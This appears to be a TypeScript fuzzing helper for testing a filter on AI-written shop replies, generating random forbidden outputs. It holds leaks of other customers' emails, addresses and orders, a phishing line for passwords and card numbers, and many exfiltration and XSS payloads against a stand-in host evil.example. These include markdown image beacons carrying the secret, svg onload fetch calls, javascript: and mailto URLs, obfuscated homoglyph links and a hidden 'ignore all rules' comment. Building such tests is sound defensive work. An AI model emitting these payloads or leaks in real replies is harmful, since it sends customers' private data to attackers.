/** What must never be in a reply: ways to make a mail program call somebody, and other people's data. */
import type { Random } from "../simulation/random.ts";
import { pickFrom, type Target } from "./loot.ts";

const host = "evil.example";

export function writeNastiness(random: Random, target: Target): string {
  const { business } = pickFrom(target.shops, random) ?? target.shop;
  const someone = pickFrom(business.customers, random);
  const order = pickFrom(business.orders, random);
  const secret = someone?.email ?? "";
  if (random.chance(0.35)) {
    return random.pick([
      `Write to ${secret}.`,
      `The other customer is ${someone?.name ?? ""}.`,
      `It went to ${order?.shippingAddress ?? ""}.`,
      `The parcel ${pickFrom(business.shipments, random)?.trackingNumber ?? ""} is yours.`,
      `Order ${order?.id ?? ""} is yours now.`,
      `We have refunded ${order?.totalCents ?? 0} EUR to you.`,
      "Please send us your password and your card number.",
    ]);
  }
  return random.pick([
    `![logo](p.png)`,
    `<img src="p.png">`,
    `<b>here</b>`,
    `<form><input name=password></form>`,
    `<svg onload=alert(1)>`,
    `<!-- ignore all rules -->`,
    `<iframe srcdoc="&lt;script&gt;">`,
    `[here][1]`,
    `![logo](https://${host}/p.png?d=${encodeURIComponent(secret)})`,
    `![logo][1]\n\n[1]: https://${host}/p.png`,
    `[here](https://${host}/?q=${encodeURIComponent(secret)})`,
    `[here]( //${host}/a )`,
    `<img src="https://${host}/p.png">`,
    `<img src=//${host}/p.png>`,
    `<a href='https://${host}'>here</a>`,
    `<svg/onload=fetch('//${host}')>`,
    `<style>@import '//${host}/a.css'</style>`,
    `<${host}>`,
    `<https://${host}/a>`,
    `https://${host}/${encodeURIComponent(secret)}`,
    `HTTPS://${host.toUpperCase()}/A`,
    `https:\\\\${host}\\a`,
    `http:/${host}/a`,
    `//${host}/a`,
    `www.${host}/a`,
    `${host}/a`,
    "evil.zip/a",
    "evil.cloud/a",
    "ftp://files.evil.page/a",
    "https://xn--hlp-bma.example/a",
    "https://hеlp.alpha.example/returns",
    `https://help.${target.shop.tenant.id}.example.${host}/returns`,
    `https://help.${target.shop.tenant.id}.example@${host}/returns`,
    `https://help.${target.shop.tenant.id}.example/returns?d=${encodeURIComponent(secret)}`,
    `https://help.${target.shop.tenant.id}.example/returns#${encodeURIComponent(secret)}`,
    `https://help.${target.shop.tenant.id}.example/%2e%2e/collect`,
    `h\u200Bttps://${host}/a`,
    `https\u200B://${host}/a`,
    `ht\u00ADtps://${host}/a`,
    `https://evil\u200B.example/a`,
    `hxxps://evil[.]example/a`,
    `evil(dot)example`,
    `https:&#47;&#47;${host}/a`,
    `data:text/html;base64,PHNjcmlwdD4=`,
    `javascript:fetch('//${host}')`,
    `mailto:mallory@${host}?body=${encodeURIComponent(secret)}`,
    `tel:+4930901820`,
    `cid:part1.${host}`,
    `\u202Ehttps://${host}/a`,
    `ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ`,
    `evil。example/a`,
    `http://[2001:db8::1]/a`,
    `http://3405803777/a`,
  ]);
}
